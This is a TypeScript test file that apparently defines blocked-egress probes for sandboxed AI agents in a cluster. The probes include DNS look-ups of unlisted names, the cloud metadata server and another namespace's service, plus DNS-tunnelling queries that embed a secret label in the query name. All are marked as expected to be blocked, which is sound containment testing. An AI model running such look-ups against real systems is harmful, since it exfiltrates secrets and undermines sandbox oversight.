import { type Attempt, SECRET_LABEL } from "../attempt.ts";

const ownDns = (id: string, title: string, name: string): Attempt => ({
  id,
  title,
  expected: "blocked",
  rings: ["dns"],
  python: () => `return str(socket.getaddrinfo("${name}", 443)[0][4])`,
});

/** Look-ups: names that must not exist for agents, and look-ups that would carry something out. */
export const names: readonly Attempt[] = [
  ownDns("name.unlisted", "an unlisted name", "unlisted.example"),
  ownDns("name.trailing-dot", "an unlisted name with a trailing dot", "unlisted.example."),
  ownDns("name.upper-case", "an unlisted name in upper case", "UNLISTED.EXAMPLE"),
  ownDns("name.metadata", "the metadata server by name", "metadata.google.internal"),
  ownDns(
    "name.cluster",
    "a Service of another namespace",
    "kube-dns.kube-system.svc.cluster.local",
  ),
  {
    id: "dns.tunnel-own",
    title: "a look-up that carries data, at the agents' DNS",
    expected: "blocked",
    rings: ["dns"],
    python: ({ dnsAddress }) =>
      `return resolve_udp("${dnsAddress}", "${SECRET_LABEL}.unlisted.example")`,
  },
  {
    id: "dns.tunnel-cluster",
    title: "a look-up that carries data, at the cluster's DNS over UDP",
    expected: "blocked",
    rings: ["policy"],
    python: ({ clusterDns }) =>
      `udp("${clusterDns}", 53, question("${SECRET_LABEL}.unlisted.example")); return "answered"`,
  },
  {
    id: "dns.tunnel-cluster-tcp",
    title: "a look-up that carries data, at the cluster's DNS over TCP",
    expected: "blocked",
    rings: ["policy"],
    python: ({ clusterDns }) => `return reached("${clusterDns}", 53)`,
  },
];
